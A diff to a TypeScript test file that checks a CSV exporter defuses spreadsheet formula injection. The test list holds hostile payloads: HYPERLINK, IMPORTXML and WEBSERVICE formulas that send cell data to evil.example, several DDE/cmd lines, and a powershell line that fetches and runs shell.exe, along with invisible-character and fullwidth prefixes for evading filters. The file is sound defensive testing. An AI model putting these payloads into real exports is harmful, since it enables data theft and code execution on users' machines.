@@ -16,18 +16,63 @@ function cellsIn(line: string): string[] {
   }
 }
 
+/** Ways in which spreadsheets were made to calculate, call a program or fetch a page. */
 const formulas = [
   "=1+1",
-  '=HYPERLINK("http://evil.example";"klik")',
   "+1",
   "-1+2",
   "@SUM(A1)",
-  "\t=1+1",
-  "\r=1+1",
+  '=HYPERLINK("http://evil.example";"klik")',
+  '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
+  '=WEBSERVICE("http://evil.example/"&A1)',
   "=cmd|' /C calc'!A0",
+  "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
+  '=DDE("cmd";"/C calc";"!A0")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
   '-"x"',
   "=1\n=2",
+  '=1;"=2',
+  '=A1&"";"',
 ];
+/** What a spreadsheet does not show, or takes away, before it looks. */
+const before = [
+  "",
+  "\t",
+  "\r",
+  "\n",
+  "\r\n",
+  "\0",
+  " ",
+  "\u00a0",
+  "\u200b",
+  "\ufeff",
+  "\t ",
+  "\0\0",
+  "\u202e",
+];
+const wide: Readonly<Record<string, string>> = { "=": "＝", "+": "＋", "-": "－", "@": "＠" };
+/** Would a spreadsheet calculate this? Written apart from what prevents it. */
+const isRun = (cell: string) => {
+  const seen = cell.replace(/[\p{Cc}\p{Cf}\p{Z}]/gu, "");
+  return "=+-@＝＋－＠".includes(seen.charAt(0) || "x") || /^\p{Cc}/u.test(cell);
+};
+const bare = (cell: string) => (cell.startsWith("'") && isRun(cell.slice(1)) ? cell.slice(1) : cell);
+
+test("no known formula is run, whatever stands before it, and the words stay as they were", () => {
+  const cells = before.flatMap((first) =>
+    formulas.flatMap((formula) => [
+      `${first}${formula}`,
+      `${first}${wide[formula[0] ?? ""] ?? ""}${formula.slice(1)}`,
+    ]),
+  );
+  expect(cells.length).toBeGreaterThan(400);
+  const read = cellsIn(csvLine(cells));
+  expect(read.filter(isRun)).toEqual([]);
+  expect(read.map(bare)).toEqual(cells);
+});
 
 test("no cell of an export is run as a formula by a spreadsheet, whatever it says", () => {
   const anything = fc.oneof(
@@ -38,10 +83,8 @@ test("no cell of an export is run as a formula by a spreadsheet, whatever it say
   fc.assert(
     fc.property(fc.array(anything, { minLength: 1, maxLength: 6 }), (texts) => {
       const cells = cellsIn(csvLine(texts));
-      expect(cells.map((cell) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell))).toEqual(
-        texts.map((text) => (/^'[=+\-@\t\r]/.test(text) ? text.slice(1) : text)),
-      );
-      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      expect(cells.map(bare)).toEqual(texts.map(bare));
+      expect(cells.filter(isRun)).toEqual([]);
     }),
     { numRuns: 1_000 },
   );
